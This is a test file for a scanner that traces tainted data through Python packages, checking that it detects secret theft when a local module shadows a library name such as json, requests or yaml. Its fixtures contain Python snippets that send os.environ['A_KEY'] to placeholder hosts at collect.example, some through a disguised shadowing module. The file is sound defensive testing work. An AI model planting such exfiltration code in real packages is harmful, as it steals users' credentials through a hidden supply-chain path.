import { describe, expect, it } from 'vitest';
import type { TaintSource } from '../../../scanner/fact/source.ts';
import { Steps } from '../../../scanner/fact/steps.ts';
import { solveFlows } from '../../../scanner/flow/flow.ts';
import { analysePython } from '../../../scanner/languages/python/python.ts';

function read(
  texts: Readonly<Record<string, string>>,
  steps = new Steps(),
): { flows: string[]; shadowed: string[] } {
  const sources = Object.entries(texts).map(
    ([path, text]): TaintSource => ({
      path,
      file: path,
      language: 'python',
      text,
      context: 'code',
      depth: 0,
    }),
  );
  const { facts, graph } = analysePython(sources, { files: new Set(Object.keys(texts)), steps });
  const { flows } = graph === undefined ? { flows: [] } : solveFlows(graph, steps);
  return {
    flows: flows.map(({ source, sink }) => {
      const to = sink.capability?.kind === 'egress' ? sink.capability.url : sink.what;
      return `${source.name} -> ${to}`;
    }),
    shadowed: facts.flatMap((fact) =>
      fact.kind === 'trait' && fact.trait === 'shadowed-library'
        ? [`${fact.span.path} ${fact.api}`]
        : [],
    ),
  };
}

const harmless = 'def post(url, json=None):\n    return None\n';
const theft =
  'import requests\nimport os\nrequests.post("https://collect.example/x", json=os.environ["A_KEY"])\n';
const sender =
  'import urllib.request\ndef dumps(value):\n    urllib.request.urlopen("https://collect.example/y", data=value)\n';
const leak = 'import os\nfrom json import dumps\ndumps(os.environ["A_KEY"])\n';

describe('a package with a file that has the name of a library', () => {
  it('finds a theft by the library, whatever the file of the name does', () => {
    const { flows, shadowed } = read({
      'p/__init__.py': '',
      'p/requests.py': harmless,
      'p/main.py': theft,
    });
    expect(flows).toEqual(['A_KEY -> https://collect.example/x']);
    expect(shadowed).toEqual([]);
  });

  it('finds a theft by the file', () => {
    const { flows, shadowed } = read({
      'p/__init__.py': '',
      'p/json.py': sender,
      'p/main.py': leak,
    });
    expect(flows).toContain('A_KEY -> https://collect.example/y');
    expect(shadowed).toEqual([]);
  });

  it('finds a theft that needs the file of one folder and the library of another', () => {
    const { flows } = read({
      'p/__init__.py': '',
      'p/json.py': 'import sys\nsys.path.append("q")\nfrom send import give\ndumps = give\n',
      'p/main.py': leak,
      'q/__init__.py': '',
      'q/requests.py': harmless,
      'q/send.py':
        'import requests\ndef give(value):\n    requests.post("https://collect.example/z", json=value)\n',
      'send.py':
        'import requests\ndef give(value):\n    requests.post("https://collect.example/z", json=value)\n',
    });
    expect(flows).toContain('A_KEY -> https://collect.example/z');
  });

  it('finds a theft by a module of a package that has the name of a library', () => {
    const { flows } = read({
      'yaml/__init__.py': '',
      'yaml/enc.py':
        'import urllib.request\ndef send(value):\n    urllib.request.urlopen("https://collect.example/y", data=value)\n',
      'yaml/main.py': 'import os\nfrom yaml.enc import send\nsend(os.environ["A_KEY"])\n',
    });
    expect(flows).toEqual(['A_KEY -> https://collect.example/y']);
  });

  // `start.py` puts its folder first on the path, and imports `main.py` as a part of the package.
  it('finds a theft by the file where the importing file also has a relative import', () => {
    const { flows, shadowed } = read({
      'p/__init__.py': '',
      'p/helper.py': 'x = 1\n',
      'p/json.py': sender,
      'p/main.py': `from . import helper\n${leak}`,
      'p/start.py': 'import sys\nsys.path.append(f"{sys.path[0]}/..")\nimport p.main\n',
    });
    expect(flows).toEqual(['A_KEY -> https://collect.example/y']);
    expect(shadowed).toEqual([]);
  });

  it('names the imports where the folders are too many to read every way', () => {
    const files = Object.fromEntries(
      ['a', 'b', 'c', 'd'].flatMap((name) => [
        [`${name}/__init__.py`, ''],
        [`${name}/json.py`, sender],
        [`${name}/main.py`, leak],
      ]),
    );
    const { flows, shadowed } = read(files);
    expect(shadowed.sort()).toEqual(['a', 'b', 'c', 'd'].map((name) => `${name}/main.py json`));
    expect(flows).toContain('A_KEY -> https://collect.example/y');
  });

  it('names the imports where the steps do not suffice for another reading', () => {
    const files = { 'p/__init__.py': '', 'p/json.py': sender, 'p/main.py': leak };
    const steps = new Steps(220);
    const { shadowed } = read(files, steps);
    expect(shadowed).toEqual(['p/main.py json']);
  });
});
